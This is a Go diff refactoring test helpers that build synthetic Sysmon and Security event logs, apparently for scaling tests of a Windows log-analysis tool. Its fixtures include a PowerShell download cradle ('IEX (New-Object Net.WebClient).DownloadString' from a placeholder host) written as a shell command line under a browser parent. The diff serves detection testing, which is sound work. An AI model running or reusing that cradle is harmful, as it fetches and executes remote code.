@@ -4,6 +4,7 @@
 package growth
 
 import (
+	"cmp"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -96,32 +97,48 @@ func number(name string, n int) evtxtest.Pair {
 	return evtxtest.Pair{Name: name, Value: evtxtest.Uint32(uint32(n))} // #nosec G115 -- small
 }
 
-// sysmon adds a Sysmon event about process n.
-func (t *tree) sysmon(file, host string, id uint16, at time.Time, n int, image string, more ...evtxtest.Pair) {
+// subject is what a Sysmon event is about: process number process with its image, by default on
+// computer and in its Sysmon log.
+type subject struct {
+	file, host string
+	at         time.Time
+	process    int
+	image      string
+}
+
+// sysmon adds a Sysmon event.
+func (t *tree) sysmon(id uint16, of subject, more ...evtxtest.Pair) {
 	data := append([]evtxtest.Pair{
-		evtxtest.Str("UtcTime", at.Format("2006-01-02 15:04:05.000")),
-		{Name: "ProcessGuid", Value: guid(n)}, number("ProcessId", pid(n)),
-		evtxtest.Str("Image", image), evtxtest.Str("User", `CORP\j.doe`)}, more...)
-	t.add(file, evtxtest.Event{Provider: "Microsoft-Windows-Sysmon", Channel: sysmonLog, Computer: host,
-		EventID: id, Version: 5, Time: at, Data: data})
+		evtxtest.Str("UtcTime", of.at.Format("2006-01-02 15:04:05.000")),
+		{Name: "ProcessGuid", Value: guid(of.process)}, number("ProcessId", pid(of.process)),
+		evtxtest.Str("Image", of.image), evtxtest.Str("User", `CORP\j.doe`)}, more...)
+	t.add(cmp.Or(of.file, "sysmon.evtx"), evtxtest.Event{Provider: "Microsoft-Windows-Sysmon", Channel: sysmonLog,
+		Computer: cmp.Or(of.host, computer), EventID: id, Version: 5, Time: of.at, Data: data})
 }
 
 func pid(n int) int { return 1000 + n%30000*4 }
 
-// start adds a Sysmon 1 of process n under another.
-func (t *tree) start(file, host string, at time.Time, n int, image, line string, parent int,
-	parentImage string, logonID uint64) {
-	t.sysmon(file, host, 1, at, n, image, evtxtest.Str("CommandLine", line),
-		evtxtest.Pair{Name: "LogonId", Value: evtxtest.Hex64(logonID)},
-		evtxtest.Pair{Name: "ParentProcessGuid", Value: guid(parent)}, number("ParentProcessId", pid(parent)),
-		evtxtest.Str("ParentImage", parentImage), evtxtest.Str("ParentCommandLine", parentImage))
+// start is a Sysmon 1 of a process under another, by default of the session.
+type start struct {
+	subject
+	line        string
+	parent      int
+	parentImage string
+	logonID     uint64
+}
+
+func (t *tree) start(s start) {
+	t.sysmon(1, s.subject, evtxtest.Str("CommandLine", s.line),
+		evtxtest.Pair{Name: "LogonId", Value: evtxtest.Hex64(cmp.Or(s.logonID, session))},
+		evtxtest.Pair{Name: "ParentProcessGuid", Value: guid(s.parent)}, number("ParentProcessId", pid(s.parent)),
+		evtxtest.Str("ParentImage", s.parentImage), evtxtest.Str("ParentCommandLine", s.parentImage))
 }
 
 const session = 0x7030d
 
 func (t *tree) theBrowser() {
-	t.start("sysmon.evtx", computer, begin.Add(-time.Minute), browserNumber, browser, browser, 0,
-		`C:\Windows\explorer.exe`, session)
+	t.start(start{subject: subject{at: begin.Add(-time.Minute), process: browserNumber, image: browser},
+		line: browser, parentImage: `C:\Windows\explorer.exe`})
 }
 
 func saved(i int) string { return fmt.Sprintf(`C:\Users\j.doe\Downloads\setup_%05d.exe`, i) }
@@ -129,7 +146,7 @@ func saved(i int) string { return fmt.Sprintf(`C:\Users\j.doe\Downloads\setup_%0
 func downloads(t *tree, n int) {
 	t.theBrowser()
 	for i := range n {
-		t.sysmon("sysmon.evtx", computer, 11, spread(i, n), browserNumber, browser,
+		t.sysmon(11, subject{at: spread(i, n), process: browserNumber, image: browser},
 			evtxtest.Str("TargetFilename", saved(i)))
 	}
 }
@@ -138,25 +155,26 @@ func runs(t *tree, n int) {
 	t.theBrowser()
 	for i := range n {
 		at := spread(i, n)
-		t.sysmon("sysmon.evtx", computer, 11, at, browserNumber, browser, evtxtest.Str("TargetFilename", saved(i)))
-		t.start("sysmon.evtx", computer, at.Add(time.Millisecond), 100+i, saved(i), saved(i), 0,
-			`C:\Windows\explorer.exe`, session)
+		t.sysmon(11, subject{at: at, process: browserNumber, image: browser},
+			evtxtest.Str("TargetFilename", saved(i)))
+		t.start(start{subject: subject{at: at.Add(time.Millisecond), process: 100 + i, image: saved(i)},
+			line: saved(i), parentImage: `C:\Windows\explorer.exe`})
 	}
 }
 
 func children(t *tree, n int) {
 	t.theBrowser()
 	for i := range n {
-		t.start("sysmon.evtx", computer, spread(i, n), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i),
-			browserNumber, browser, session)
+		t.start(start{subject: subject{at: spread(i, n), process: 100 + i, image: shell},
+			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser})
 	}
 }
 
 func onePID(t *tree, n int) {
 	t.theBrowser()
 	for i := range n {
-		t.start("sysmon.evtx", computer, spread(i, n), 100, shell, fmt.Sprintf("%s # %d", cradle, i),
-			browserNumber, browser, session)
+		t.start(start{subject: subject{at: spread(i, n), process: 100, image: shell},
+			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser})
 	}
 }
 
@@ -167,16 +185,17 @@ func ancestors(t *tree, n int) {
 		if i == 0 {
 			parent, image = browserNumber, browser
 		}
-		t.start("sysmon.evtx", computer, spread(i, n), 100+i, shell, fmt.Sprintf("%s # %d", cradle, i),
-			parent, image, session)
+		t.start(start{subject: subject{at: spread(i, n), process: 100 + i, image: shell},
+			line: fmt.Sprintf("%s # %d", cradle, i), parent: parent, parentImage: image})
 	}
 }
 
 func network(t *tree, n int) {
 	t.theBrowser()
-	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
-		t.sysmon("sysmon.evtx", computer, 3, spread(i, n), 100, shell,
+		t.sysmon(3, subject{at: spread(i, n), process: 100, image: shell},
 			evtxtest.Str("DestinationIp", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250)),
 			evtxtest.Str("DestinationPort", "443"), evtxtest.Str("Protocol", "tcp"),
 			evtxtest.Str("Initiated", "true"))
@@ -195,7 +214,8 @@ func (t *tree) script(at time.Time, block, part, total int, text string) {
 
 func scripts(t *tree, n int) {
 	t.theBrowser()
-	t.start("sysmon.evtx", computer, begin, 100, shell, "powershell", browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: "powershell", parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.script(spread(i, n), i, 1, 1, fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')", i))
 	}
@@ -217,20 +237,23 @@ func logons(t *tree, n int) {
 				evtxtest.Str("TargetUserName", "j.doe"), evtxtest.Str("TargetDomainName", "CORP"),
 				{Name: "TargetLogonId", Value: evtxtest.Hex64(id)}, number("LogonType", 3),
 				evtxtest.Str("IpAddress", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250))}})
-		t.start("sysmon.evtx", computer, at.Add(time.Second), 100+i, shell,
-			fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, id)
+		t.start(start{subject: subject{at: at.Add(time.Second), process: 100 + i, image: shell},
+			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser, logonID: id})
 	}
 }
 
 func hosts(t *tree, n int) {
 	for i := range n {
 		host := fmt.Sprintf("WS-%06d.corp.example", i)
-		t.start("forwarded.evtx", host, spread(i, n), 100, shell, cradle, browserNumber, browser, session)
+		t.start(start{subject: subject{file: "forwarded.evtx", host: host, at: spread(i, n), process: 100,
+			image: shell},
+			line: cradle, parent: browserNumber, parentImage: browser})
 	}
 }
 
 func channels(t *tree, n int) {
-	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.add("channels.evtx", vendor(fmt.Sprintf("Vendor-%d", i),
 			fmt.Sprintf("Vendor-%d/Operational", i), computer, spread(i, n), "Text"))
@@ -240,7 +263,8 @@ func channels(t *tree, n int) {
 // quietHosts has events of process starts on one host alone: what the report says of the others is
 // that they are there.
 func quietHosts(t *tree, n int) {
-	t.start("forwarded.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{file: "forwarded.evtx", at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.add("forwarded.evtx", vendor("Vendor", "System", fmt.Sprintf("WS-%06d.corp.example", i),
 			spread(i, n), "Text"))
@@ -254,21 +278,24 @@ func vendor(provider, channel, host string, at time.Time, field string) evtxtest
 }
 
 func providers(t *tree, n int) {
-	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.add("providers.evtx", vendor(fmt.Sprintf("Vendor-%d", i), "Application", computer, spread(i, n), "Text"))
 	}
 }
 
 func fields(t *tree, n int) {
-	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.add("fields.evtx", vendor("Vendor", "Application", computer, spread(i, n), fmt.Sprintf("Field%d", i)))
 	}
 }
 
 func accounts(t *tree, n int) {
-	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
 			Channel: "Security", Computer: computer, EventID: 4624, Version: 2, Time: spread(i, n),
@@ -282,7 +309,8 @@ func accounts(t *tree, n int) {
 }
 
 func days(t *tree, n int) {
-	t.start("sysmon.evtx", computer, begin, 100, shell, cradle, browserNumber, browser, session)
+	t.start(start{subject: subject{at: begin, process: 100, image: shell},
+		line: cradle, parent: browserNumber, parentImage: browser})
 	for i := range n {
 		t.add("days.evtx", vendor("Vendor", "Application", computer, begin.AddDate(0, 0, -i), "Text"))
 	}
@@ -290,7 +318,8 @@ func days(t *tree, n int) {
 
 func logs(t *tree, n int) {
 	for i := range n {
-		t.start(fmt.Sprintf("sysmon-%05d.evtx", i), computer, spread(i, n), 100+i, shell,
-			fmt.Sprintf("%s # %d", cradle, i), browserNumber, browser, session)
+		t.start(start{subject: subject{file: fmt.Sprintf("sysmon-%05d.evtx", i), at: spread(i, n),
+			process: 100 + i, image: shell},
+			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser})
 	}
 }
